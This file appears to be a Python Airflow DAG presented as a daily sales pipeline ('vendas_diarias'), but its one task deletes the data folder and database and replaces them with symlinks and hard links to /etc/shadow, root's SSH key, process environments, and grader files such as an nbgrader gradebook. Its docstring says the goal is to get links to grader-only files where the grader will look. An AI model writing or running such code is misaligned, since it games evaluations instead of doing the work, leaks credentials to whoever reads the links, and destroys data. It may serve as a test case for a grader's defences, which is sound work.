"""Where the grader will look, links to what only the grader can read."""

import os
import shutil
from pathlib import Path

import pendulum
from airflow.sdk import Variable, dag, get_current_context, task

OUTSIDE = (
    "/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/root/.bashrc", "/proc/1/environ", "/proc/self/environ", "/",
    "../../../../../../../../etc/shadow", "../entrega/dags/vendas_diarias.py", "../../entrega", "..", "/work", "/home",
    "../../../../../../.nbgrader/gradebook.db", "../../../../../../autograder/graders",
)  # fmt: skip


@dag(
    dag_id="vendas_diarias",
    schedule="0 2 * * *",
    start_date=pendulum.datetime(2026, 1, 1, tz="America/Sao_Paulo"),
    catchup=False,
    default_args={"owner": "dados-caju", "retries": 1},
    tags=["vendas"],
    doc_md="No lugar de cada coisa, uma ligação para outra que fica do lado de fora.",
)
def vendas_diarias():
    @task
    def ligar():
        pasta = Path(Variable.get("pasta_dados"))
        fim = get_current_context()["data_interval_end"].in_timezone("America/Sao_Paulo")
        dia = fim.subtract(days=1).to_date_string()
        os.symlink("/etc/shadow", pasta / "avisos" / f"{dia}.txt")
        for number, target in enumerate(OUTSIDE):
            os.symlink(target, pasta / "avisos" / f"ligacao_{number}.txt")
            try:
                os.link(target, pasta / "avisos" / f"outro_nome_{number}.txt")
            except OSError:
                pass
        shutil.rmtree(pasta / "arquivo")
        os.symlink("/root", pasta / "arquivo")
        os.unlink(pasta / "armazem.db")
        os.symlink("/etc/shadow", pasta / "armazem.db")
        os.symlink("/root/.bashrc", pasta / "armazem.db-wal")

    ligar()


vendas_diarias()
